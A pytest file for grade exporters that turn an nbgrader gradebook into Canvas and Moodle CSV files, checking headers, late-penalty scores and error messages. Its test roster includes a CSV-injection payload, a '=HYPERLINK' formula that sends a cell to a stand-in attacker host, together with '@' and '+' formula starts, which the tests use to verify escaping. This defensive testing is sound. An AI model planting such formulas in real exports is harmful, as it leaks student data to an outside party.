"""Grades for Canvas and Moodle: `nbgrader export --exporter=kit.nbgrader_glue.export...` writes files that follow each
importer's published column rules, one row per student, the late penalty applied (as in nbgrader's CSV),
from a SQLite or a PostgreSQL gradebook.

Canvas's rules, as its GradebookImporter reads a file: a header ``Student, ID, SIS User ID, SIS Login ID,
Section``, then assignment columns ``Name (id)``; a row starting ``Points Possible``; a student matched by
ID, SIS User ID or SIS Login ID. Moodle's (grade/import/csv): a header row; a user-identifier column
(username, useremail, useridnumber) that no row leaves empty; grades numeric, at most 100 by default; a
"Last downloaded from this course" column makes it check the export's date, so there is none.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from kit import nbgrader_cli
from kit.course import COURSE_ID, DB_URL_VARIABLE, db_url
from kit.notebooks import ROOT
from tests.nbgrader_glue.databases import DATABASES, gradebook_environment

# id → (first, last, email, {grade cell: points} or None if nothing submitted, late penalty)
CLASS = {
    "ada": ("Ada", "Perfect", "ada@example.edu", {"check_a": 4, "hidden_a": 6}, 0.0),
    "fay": ("Fay", "de la Cruz, Jr.", "fay@example.edu", {"check_a": 4, "hidden_a": 3.5}, 7 / 3),
    "zoe": ("Zoe", "Ng", None, None, 0.0),
    "mal": ('=HYPERLINK("http://attacker.example/?"&A1,"Mal")', "@SUM(1+1)", "+mal@example.edu", None, 0.0),
}
SCORE = re.compile(r"^\d+(\.\d{1,2})?$")  # a plain decimal with a point: what both importers read


def nbgrader(course: Path, env: dict, *args: str) -> tuple[int, str]:
    """An nbgrader command in `course`, run in this process (kit.nbgrader_cli.run_here: no new Python and
    no `import nbgrader.apps` per command) with the variables `env` set: (exit code, its log)."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in env.items():
            patch.setenv(name, value)
        try:
            return 0, "\n".join(nbgrader_cli.run_here(*args, cwd=course))
        except nbgrader_cli.NbgraderFailed as failed:
            return 1, str(failed)
        except Exception as error:  # what a new process would end with, its traceback's last line
            return 1, f"{type(error).__name__}: {error}"


def new_course(folder: Path, env: dict) -> str:
    """A course folder with the kit's configuration, its gradebook holding CLASS; returns the gradebook's URL.
    One assignment of 10 points: ada full marks, fay late, zoe submitted nothing."""
    for name in ("nbgrader_config.py", "course.toml"):
        shutil.copy(ROOT / name, folder / name)
    code, log = nbgrader(folder, env, "db", "assignment", "add", "attention", "--duedate=2026-12-14 23:59:00")
    assert code == 0, log[-2000:]
    url = env.get(DB_URL_VARIABLE) or db_url(folder)
    with Gradebook(url, COURSE_ID) as gb:
        gb.add_notebook("01_worked_example", "attention")
        gb.add_grade_cell("check_a", "01_worked_example", "attention", max_score=4, cell_type="code")
        gb.add_grade_cell("hidden_a", "01_worked_example", "attention", max_score=6, cell_type="code")
        for student, (first, last, email, points, penalty) in CLASS.items():
            gb.add_student(student, first_name=first, last_name=last, email=email)
            if points is None:
                continue
            submission = gb.add_submission("attention", student, timestamp="2026-12-15 01:00:00")
            notebook = submission.notebooks[0]
            notebook.late_submission_penalty = penalty
            for grade in notebook.grades:
                grade.auto_score = points[grade.name]
            gb.db.commit()
    return url


def rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture(scope="module", params=DATABASES)
def course(request, tmp_path_factory):
    """A course folder whose gradebook (SQLite or PostgreSQL) holds CLASS, exported four ways."""
    course = tmp_path_factory.mktemp(f"export-{request.param}")
    env = gradebook_environment(request, request.param, "export")
    new_course(course, env)
    for args in (["--to=grades.csv"],
                 ["--exporter=kit.nbgrader_glue.export.CanvasExport", "--to=canvas.csv", "--CanvasExport.assignment_id=4321"],
                 ["--exporter=kit.nbgrader_glue.export.CanvasExport", "--to=canvas-by-title.csv",
                  "--CanvasExport.student_id_column=SIS User ID"],
                 ["--exporter=kit.nbgrader_glue.export.MoodleExport", "--to=moodle.csv"]):
        code, log = nbgrader(course, env, "export", *args)
        assert code == 0, log[-2000:]
    return course


def nbgrader_scores(course: Path) -> dict[str, float]:
    """grades.csv, nbgrader's columns: the score after the late penalty, the reference."""
    header, *students = rows(course / "grades.csv")
    return {row[header.index("student_id")]: float(row[header.index("score")]) for row in students}


def test_grades_csv_has_nbgrader_columns_and_every_score_to_a_millionth_of_a_point(course):
    header, *students = rows(course / "grades.csv")
    assert header == ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
                      "raw_score", "late_submission_penalty", "score", "max_score"]
    fay = dict(zip(header, students[[row[3] for row in students].index("fay")]))
    assert fay["last_name"] == "de la Cruz, Jr."  # quoted, so the comma does not shift the columns
    assert (fay["raw_score"], fay["late_submission_penalty"], fay["score"]) == ("7.5", "2.333333", "5.166667")
    zoe = dict(zip(header, students[[row[3] for row in students].index("zoe")]))
    assert (zoe["timestamp"], zoe["score"], zoe["max_score"]) == ("", "0.0", "10.0")


def test_a_penalty_with_rounding_noise_is_written_as_the_decimal_it_is(tmp_path):
    with Gradebook(new_course(tmp_path, {}), COURSE_ID) as gb:
        gb.find_submission_notebook("01_worked_example", "attention", "fay").late_submission_penalty = 0.1 + 0.2
        gb.db.commit()
    assert nbgrader(tmp_path, {}, "export")[0] == 0
    header, *students = rows(tmp_path / "grades.csv")
    fay = dict(zip(header, students[[row[3] for row in students].index("fay")]))
    assert (fay["late_submission_penalty"], fay["score"]) == ("0.3", "7.2")  # not 0.30000000000000004


def test_canvas_file_has_canvas_header_and_a_points_possible_row(course):
    header, points, *_ = rows(course / "canvas.csv")
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert len(header) == 6, "one assignment column"
    assert re.fullmatch(r"(.+) \((\d+)\)", header[5]).groups() == ("attention", "4321")
    assert points == ["Points Possible", "", "", "", "", "10"]


def test_canvas_file_has_one_row_per_student_found_by_sis_login_id(course):
    students = rows(course / "canvas.csv")[2:]
    assert [row[3] for row in students] == sorted(CLASS)
    assert all(row[1] == row[2] == row[4] == "" for row in students)  # Canvas ids and sections: Canvas's own
    assert students[1][0] == "de la Cruz, Jr., Fay"  # Canvas's sortable name, "Last, First"


def test_canvas_file_without_an_assignment_id_names_the_column_by_title(course):
    header, _, *students = rows(course / "canvas-by-title.csv")
    assert header[5] == "attention"
    assert [row[2] for row in students] == sorted(CLASS) and all(row[3] == "" for row in students)


@pytest.mark.parametrize("file", ["canvas.csv", "moodle.csv"])
def test_the_score_is_a_plain_decimal_with_the_late_penalty_applied(course, file):
    table = rows(course / file)
    column = table[0].index("attention (4321)" if file == "canvas.csv" else "attention")
    ids = [row[3] if file == "canvas.csv" else row[0] for row in table[1:] if row[0] != "Points Possible"]
    scores = [row[column] for row in table[1:] if row[0] != "Points Possible"]
    assert all(SCORE.match(score) for score in scores), scores
    expected = nbgrader_scores(course)
    assert {i: float(s) for i, s in zip(ids, scores)} == {i: pytest.approx(v, abs=0.005) for i, v in expected.items()}
    assert dict(zip(ids, scores)) == {"ada": "10", "fay": "5.17", "mal": "0", "zoe": "0"}  # 7.5 - 2.33 late; none


def test_moodle_file_has_an_identifier_no_row_leaves_empty_and_one_grade_column(course):
    header, *students = rows(course / "moodle.csv")
    assert header == ["Username", "Email address", "First name", "Last name", "attention"]
    assert "Last downloaded from this course" not in header
    assert all(len(row) == len(header) for row in students)
    assert [row[0] for row in students] == sorted(CLASS)  # every row identified, once
    assert all(float(row[4]) <= 100 for row in students)  # Moodle refuses grades above 100 by default
    assert students[3][1] == ""  # zoe has no email: map Username, not Email address, for this class


def test_an_export_of_several_assignments_asks_which_one(tmp_path):
    with Gradebook(new_course(tmp_path, {}), COURSE_ID) as gb:
        gb.add_assignment("second")
    moodle = ["export", "--exporter=kit.nbgrader_glue.export.MoodleExport", "--to=moodle.csv"]
    code, log = nbgrader(tmp_path, {}, *moodle)
    assert code != 0 and "name one with --assignment" in log
    assert nbgrader(tmp_path, {}, *moodle, "--assignment=attention")[0] == 0
    assert rows(tmp_path / "moodle.csv")[0][-1] == "attention"


@pytest.mark.parametrize("exporter", [[], ["--exporter=kit.nbgrader_glue.export.MoodleExport"]], ids=["csv", "moodle"])
def test_an_export_names_the_students_an_interrupted_autograde_left_part_way(tmp_path, exporter):
    new_course(tmp_path, {})
    (tmp_path / "autograded" / "fay").mkdir(parents=True)
    (tmp_path / "autograded" / "fay" / ".attention.unfinished").touch()  # whole_or_absent.py's mark
    code, log = nbgrader(tmp_path, {}, "export", *exporter)
    assert code == 0, log[-2000:]
    assert re.search(r"The autograde of fay stopped part-way.*run `nbgrader autograde attention`", log), log


@pytest.mark.parametrize("file", ["grades.csv", "canvas.csv", "moodle.csv"])
def test_a_roster_name_that_starts_a_formula_is_written_as_text_a_spreadsheet_never_runs(course, file):
    # A display name a student chose in the LMS, imported with the roster: opened in a spreadsheet, a cell
    # that starts with =, +, - or @ runs as a formula (CSV injection), here one that sends the sheet away.
    cells = [cell for row in rows(course / file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or re.match(r"-[^\d]", cell)]
    assert any(cell.startswith("'=HYPERLINK(") or cell.startswith("'@SUM") for cell in cells)


@pytest.mark.parametrize("exporter", [[], ["--exporter=kit.nbgrader_glue.export.MoodleExport"]], ids=["csv", "moodle"])
def test_an_export_to_a_folder_that_does_not_exist_says_so_in_one_line(tmp_path, exporter):
    new_course(tmp_path, {})
    code, log = nbgrader(tmp_path, {}, "export", *exporter, f"--to={tmp_path}/no/such/folder/grades.csv")
    assert code != 0 and "Traceback" not in log, log[-2000:]
    assert (f"nbgrader export: the grades were not written: {tmp_path}/no/such/folder/grades.csv: No such file or "
            "directory (its folder must exist)") in log
